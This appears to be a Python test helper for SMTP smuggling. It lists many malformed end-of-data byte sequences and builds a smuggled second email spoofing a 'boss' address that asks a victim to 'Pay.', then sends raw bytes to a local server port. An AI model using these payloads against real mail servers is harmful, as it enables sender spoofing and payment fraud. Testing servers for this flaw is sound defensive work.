"""Everything that was ever published as an end of a mail for some server and not for another (SMTP smuggling, 2023 on),
and what an attacker puts behind it.
"""

from __future__ import annotations

import asyncio

ENDS = {
    "LF.LF": b"\n.\n",
    "LF.CRLF": b"\n.\r\n",
    "LF.CR": b"\n.\r",
    "CRLF.LF": b"\r\n.\n",
    "CRLF.CR": b"\r\n.\r",
    "CR.CR": b"\r.\r",
    "CR.LF": b"\r.\n",
    "CR.CRLF": b"\r.\r\n",
    "CRLF.CRCRLF": b"\r\n.\r\r\n",
    "CRCRLF.CRLF": b"\r\r\n.\r\r\n",
    "CRLFCR.CRLF": b"\r\n\r.\r\n",
    "LFLF.LFLF": b"\n\n.\n\n",
    "LFCR.LFCR": b"\n\r.\n\r",
    "CRLF.NULCRLF": b"\r\n.\x00\r\n",
    "CRLFNUL.CRLF": b"\r\n\x00.\r\n",
    "CRNULLF.CRLF": b"\r\x00\n.\r\n",
    "CRLF.CRNULLF": b"\r\n.\r\x00\n",
    "NULCRLF.CRLFNUL": b"\x00\r\n\x00.\x00\r\n\x00",
    "CRLF.SPCRLF": b"\r\n. \r\n",
    "CRLFSP.CRLF": b"\r\n .\r\n",
    "CRLF.VTCRLF": b"\r\n.\x0b\r\n",
    "CRLF.FFCRLF": b"\r\n\x0c.\r\n",
    "NEL.NEL": b"\x85.\x85",
    "LS.LS": b"\xe2\x80\xa8.\xe2\x80\xa8",
    "CRLF..LF": b"\r\n..\n",
    "CRLF..CRLF": b"\r\n..\r\n",
    "LF..LF": b"\n..\n",
    "CR..CR": b"\r..\r",
}


def smuggled(domain: str) -> bytes:
    """A second mail, as a server would take it that saw an end before it; then the real end."""
    return (
        b"MAIL FROM:<boss@%(d)s>\r\nRCPT TO:<victim@example.nl>\r\nDATA\r\n"
        b"From: boss@%(d)s\r\nSubject: evil\r\n\r\nPay.\r\n.\r\nQUIT\r\n"
    ) % {b"d": domain.encode()}


async def said(port: int, octets: bytes) -> list[bytes]:
    """All replies to these octets, sent at once on one connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(octets)
    writer.write_eof()
    lines = (await asyncio.wait_for(reader.read(), 60)).splitlines()
    writer.close()
    return lines
